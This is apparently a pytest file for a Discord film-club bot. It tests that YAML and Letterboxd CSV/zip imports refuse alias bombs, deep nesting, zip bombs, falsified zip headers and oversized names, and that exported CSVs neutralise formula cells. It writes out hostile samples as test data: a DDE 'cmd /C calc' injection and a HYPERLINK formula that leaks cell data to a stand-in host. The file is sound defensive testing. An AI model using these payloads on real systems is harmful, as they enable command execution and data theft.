"""Files members send (list YAML, Letterboxd CSV and zip) and files the bot writes (CSV), attacked.

Each attack goes through the real command in SimCord; the test asserts the member's message, that
the database is unchanged on refusal, and for the ones that used to freeze the bot, the worst stall
of the event loop while the attack ran.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile

import pytest

from bot.catalogue import letterboxd, spreadsheet
from bot.catalogue.normalise import normalise
from bot.store.models import FilmDraft
from tests.catalogue.test_letterboxd import zipped
from tests.hostile.lag import LoopLag

STALL_MS = 100
RATINGS_HEADER = "Date,Name,Year,Letterboxd URI,Rating\n"
CRANES = "the-cranes-are-flying-1957"


async def list_import(club, data: bytes, filename: str = "list.yaml"):
    return await club.mod.slash(club.channel, "list import", file=(filename, data))


async def letterboxd_import(club, member, data: bytes, filename: str):
    return await member.slash(club.channel, "import letterboxd", file=(filename, data))


def refused(club, result) -> str:
    """The member's ephemeral refusal, after which the bot raised only the errors members are told about."""
    assert result.ephemeral
    club.take_errors()
    return result.response.content


# ------------------------------------------------------------------ list files (YAML)


def billion_laughs(levels: int = 9) -> bytes:
    lines = ["key: laughs", "name: Laughs", "films: []", "l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, levels + 1)]
    lines.append(f"description: *l{levels}")
    return "\n".join(lines).encode()


async def test_billion_laughs_is_refused_at_once(club):
    data = billion_laughs()
    assert len(data) < 1024
    before = await club.store.counts()
    async with LoopLag() as lag:
        message = refused(club, await list_import(club, data))
    assert message == "list.yaml:10: not valid YAML (more than 50 aliases (*name))"
    assert lag.worst_ms <= STALL_MS, lag.worst_ms
    assert await club.store.counts() == before


async def test_an_alias_in_a_text_field_is_named_by_its_type(club):
    data = b"key: k\nname: &big [a, b, c]\ndescription: *big\nfilms: []\n"
    message = refused(club, await list_import(club, data))
    assert message == "list.yaml:2: name: expected text, got a list"


@pytest.mark.parametrize(
    ("shape", "data"),
    [
        ("flow", b"key: k\nname: K\nfilms: " + b"[" * 10_000 + b"]" * 10_000 + b"\n"),
        ("block", b"key: k\nname: K\nfilms:\n" + b"".join(b"  " * n + b"- \n" for n in range(140))),
        ("mapping", b"".join(b" " * n + b"a:\n" for n in range(200))),
    ],
)
async def test_deep_nesting_is_refused_at_once(club, shape, data):
    assert len(data) >= 19_000
    before = await club.store.counts()
    async with LoopLag() as lag:
        message = refused(club, await list_import(club, data))
    assert message.startswith("list.yaml:") and message.endswith("not valid YAML (nested more than 20 levels deep)")
    assert lag.worst_ms <= STALL_MS, (shape, lag.worst_ms)
    assert await club.store.counts() == before


async def test_a_field_given_twice_is_refused_by_its_line(club):
    data = b"key: twice\nname: First\nfilms: []\nname: Second\n"
    before = await club.store.counts()
    message = refused(club, await list_import(club, data))
    assert message == "list.yaml:4: not valid YAML (the field “name” is given twice)"
    entry = b"key: twice\nname: T\nfilms:\n  - film: the-mirror-1975\n    note: a\n    note: b\n"
    message = refused(club, await list_import(club, entry))
    assert message == "list.yaml:6: not valid YAML (the field “note” is given twice)"
    assert await club.store.counts() == before
    assert await club.store.lists.get(club.guild.id, "twice") is None


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"key: 123\nname: K\n", "list.yaml:1: key: expected text, got a number (put it in quotes)"),
        (b"key: k\nname: .nan\n", "list.yaml:2: name: expected text, got a number (put it in quotes)"),
        (b"key: k\nname: K\ndescription: true\n", "list.yaml:3: description: expected text, got true/false"),
        (b"key: k\nname: K\nfilms:\n  - film: 1957\n", "list.yaml:4: film: expected text, got a number"),
        (b"key: k\nname: K\nfilms:\n  - film: x\n    note: 2024-01-01\n", "list.yaml:5: note: expected text, got a"),
        (b"key: k\nname: K\n1: x\n", "list.yaml:3: not valid YAML (a field name must be text)"),
        (b"key: k\nname: {a: b}\n", "list.yaml:2: name: expected text, got a mapping"),
    ],
)
async def test_values_that_are_not_text_are_named_by_type_and_line(club, data, expected):
    before = await club.store.counts()
    message = refused(club, await list_import(club, data))
    assert message.startswith(expected), message
    assert await club.store.counts() == before


async def test_quoted_scalars_are_still_text(club):
    data = b"key: '123'\nname: \"Best of 1957\"\nfilms:\n  - film: the-cranes-are-flying-1957\n    note: '.nan'\n"
    result = await list_import(club, data)
    assert result.response.content == "Created the list “Best of 1957” (key 123, 1 film)."


# --------------------------------------------------------- Letterboxd files (CSV, zip)


def ratings_rows(count: int, name_length: int = 20) -> str:
    pad = "x" * max(0, name_length - 12)
    return RATINGS_HEADER + "".join(
        f"2024-01-02,Film {n:06d} {pad},1975,https://boxd.it/f{n},4.5\n" for n in range(count)
    )


async def test_a_zip_that_inflates_past_20_mb_is_refused(club):
    data = zipped({"ratings.csv": RATINGS_HEADER + "2024-01-02,X,1999,u,4\n" * 1_000_000})  # 22 MB of CSV
    assert len(data) < 200_000
    before = await club.store.counts()
    async with LoopLag() as lag:
        message = refused(club, await letterboxd_import(club, club.alice, data, "letterboxd.zip"))
    assert message.startswith("letterboxd.zip unpacks to more than 20 MB of CSV")
    assert lag.worst_ms <= STALL_MS, lag.worst_ms
    assert await club.store.counts() == before


def lying(data: bytes, declared: int) -> bytes:
    """The zip with every size its headers declare for uncompressed data rewritten to `declared`."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = out.find(signature)
        while at != -1:
            out[at + offset : at + offset + 4] = struct.pack("<I", declared)
            at = out.find(signature, at + 4)
    return bytes(out)


async def test_a_zip_that_lies_about_its_size_is_refused(club):
    data = lying(zipped({"ratings.csv": RATINGS_HEADER + "2024-01-02,X,1999,u,4\n" * 1_000_000}), 100)
    before = await club.store.counts()
    async with LoopLag() as lag:
        message = refused(club, await letterboxd_import(club, club.alice, data, "letterboxd.zip"))
    assert "letterboxd.zip" in message and ("unpacks to more than" in message or "is not a zip file" in message)
    assert lag.worst_ms <= STALL_MS, lag.worst_ms
    assert await club.store.counts() == before


async def test_a_zip_of_too_many_files_is_refused_before_reading_them(club):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for n in range(letterboxd.MAX_MEMBERS + 1):
            archive.writestr(f"{n}", b"")
    message = refused(club, await letterboxd_import(club, club.alice, out.getvalue(), "letterboxd.zip"))
    assert message.startswith("letterboxd.zip holds 10,001 files")


async def test_a_zip_with_names_of_100k_characters_is_refused_by_row(club):
    name = "A" * 100_000
    data = zipped({"ratings.csv": RATINGS_HEADER + "".join(f"2024-01-02,{name}{n},1999,u,4\n" for n in range(150))})
    assert len(data) < 100_000
    before = await club.store.counts()
    async with LoopLag() as lag:
        message = refused(club, await letterboxd_import(club, club.alice, data, "letterboxd.zip"))
    assert message == "ratings.csv:2: Name is 100,001 characters; kinoclub reads at most 500."
    assert lag.worst_ms <= STALL_MS, lag.worst_ms
    assert await club.store.counts() == before


async def test_a_zip_whose_file_names_are_60k_characters_is_refused_without_echoing_them(club):
    data = zipped({f"{n}{'N' * 60_000}/ratings.csv": RATINGS_HEADER for n in range(20)})
    async with LoopLag() as lag:
        message = refused(club, await letterboxd_import(club, club.alice, data, "N" * 5000 + ".zip"))
    assert message.startswith("NNNN") and "holds no ratings.csv or diary.csv at its top level" in message
    assert len(message) < 200
    assert lag.worst_ms <= STALL_MS, lag.worst_ms


async def test_a_5_mb_csv_imports_without_stalling_the_bot(club):
    data = ratings_rows(19_000, name_length=220).encode()
    assert 4_500_000 < len(data) <= letterboxd.MAX_FILE_BYTES
    before = await club.store.counts()
    async with LoopLag() as lag:
        result = await letterboxd_import(club, club.alice, data, "ratings.csv")
    content = result.response.content
    assert content.startswith("Matched 0 films in the catalogue.")
    assert "Unmatched: 19,000 films not found in the catalogue (see unmatched.csv)." in content
    # 19,000 rows' objects may set off one full garbage collection, which holds the GIL in whatever
    # thread it runs and lasts as long as the whole process's heap takes to scan: that pause is the
    # collector's, not the import's (freezing the start-up heap shortens it), so it is allowed for.
    assert lag.worst_ms <= STALL_MS + lag.collector_ms, (lag.worst_ms, lag.collector_ms)
    assert await club.store.counts() == before


async def test_a_csv_over_5_mb_is_refused_before_download(club):
    data = ratings_rows(21_000, name_length=240).encode()
    assert len(data) > letterboxd.MAX_FILE_BYTES
    message = refused(club, await letterboxd_import(club, club.alice, data, "ratings.csv"))
    assert message.startswith("ratings.csv is 5.") and message.endswith("a Letterboxd file can be at most 5 MB.")


# ------------------------------------------------------------------ files the bot writes


FORMULA_TITLE = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'
FORMULA_REVIEW = "@SUM(1+1)*cmd|' /C calc'!A0"


async def formula_film(club) -> int:
    draft = FilmDraft(key="m-formula", title=FORMULA_TITLE, year=1999, source="moderator")
    async with club.store.transaction() as tx:
        film_id, _ = await club.store.films.upsert(tx, draft, normalise)
    return film_id


async def csv_rows(attachment) -> list[list[str]]:
    return list(csv.reader(io.StringIO((await attachment.read()).decode())))


async def test_exported_cells_that_start_like_formulas_are_neutralised_and_read_back(club):
    await formula_film(club)
    rated = await club.alice.slash(club.channel, "rate", film="m-formula", score=7, review=FORMULA_REVIEW)
    assert rated.ephemeral
    await club.alice.slash(club.channel, "rate", film=CRANES, score=9, review="-1 star is too few; +1 for the ending")
    exported = await club.alice.slash(club.channel, "export ratings")
    (attachment,) = exported.response.attachments
    header, *rows = await csv_rows(attachment)
    by_title = {row[header.index("Title")]: row for row in rows}
    formula = by_title["'" + FORMULA_TITLE]
    assert formula[header.index("Review")] == "'" + FORMULA_REVIEW
    cranes = by_title["The Cranes Are Flying"]
    assert cranes[header.index("Review")] == "'-1 star is too few; +1 for the ending"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)

    before = await club.store.counts()
    again = await letterboxd_import(club, club.alice, await attachment.read(), "kinoclub-ratings.csv")
    assert again.response.content.startswith("Matched 2 films in the catalogue.")
    assert "- 2 already the same here" in again.response.content
    assert await club.store.counts() == before


async def test_unmatched_csv_neutralises_the_uploaded_cells(club):
    upload = RATINGS_HEADER + '2024-01-02,"=cmd|\' /C calc\'!A0",1999,"@SUM(1+1)",4\n'
    result = await letterboxd_import(club, club.alice, upload.encode(), "ratings.csv")
    (attachment,) = result.response.attachments
    assert attachment.filename == "unmatched.csv"
    _, row = await csv_rows(attachment)
    assert row[1:4] == ["'=cmd|' /C calc'!A0", "1999", "'@SUM(1+1)"]


def test_neutralised_cells_read_back_exactly():
    for value in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=1", "''@x", "'Round Midnight", "plain", "", "'"]:
        written = spreadsheet.spreadsheet_cell(value)
        assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert spreadsheet.plain_cell(written) == value


# ------------------------------------------------------------------ repeating an import


async def test_a_second_import_while_one_runs_is_told_to_wait(club):
    big = ratings_rows(8_000, name_length=200).encode()
    small = (RATINGS_HEADER + "2024-01-04,The Cranes Are Flying,1957,https://boxd.it/c,5\n").encode()
    before = await club.store.counts()
    env = club.env
    settle = env._settle_internal

    async def later(**_):
        """The first invocation is sent without waiting for the bot, as a second click would be."""

    env._settle_internal = later
    try:
        first = await letterboxd_import(club, club.alice, big, "ratings.csv")
    finally:
        env._settle_internal = settle
    second = await letterboxd_import(club, club.alice, small, "ratings.csv")
    assert refused(club, second) == "Your previous import is still running; wait for its reply, then try again."
    assert first.response.content.startswith("Matched 0 films in the catalogue.")
    assert await club.store.counts() == before
    # Another member is not held up by alice's import, and alice may import again once it is done.
    third = await letterboxd_import(club, club.boris, small, "ratings.csv")
    assert third.response.content.startswith("Matched 1 film in the catalogue.")
    fourth = await letterboxd_import(club, club.alice, small, "ratings.csv")
    assert fourth.response.content.startswith("Matched 1 film in the catalogue.")


async def test_after_a_heavy_import_the_member_pauses(club):
    from cogs._import_guard import import_guard

    guard = import_guard(club.bot)
    guard.heavy = 0.0  # every import counts as heavy here, so the pause is seen without a big file
    small = (RATINGS_HEADER + "2024-01-04,The Cranes Are Flying,1957,https://boxd.it/c,5\n").encode()
    first = await letterboxd_import(club, club.alice, small, "ratings.csv")
    assert first.response.content.startswith("Matched 1 film")
    before = await club.store.counts()
    second = await letterboxd_import(club, club.alice, small, "ratings.csv")
    message = refused(club, second)
    assert message.startswith("Your last import was a big file; wait ") and message.endswith(
        " s before importing another."
    )
    listed = await list_import(club, b"key: k\nname: K\nfilms: []\n")
    assert listed.response.content.startswith("Created the list")  # the moderator's own pause is separate
    after_list = await list_import(club, b"key: k\nname: K\nfilms: []\n")
    assert refused(club, after_list).startswith("Your last import was a big file; wait ")
    assert (await club.store.counts())["ratings"] == before["ratings"]
    club.assert_pings_no_one()
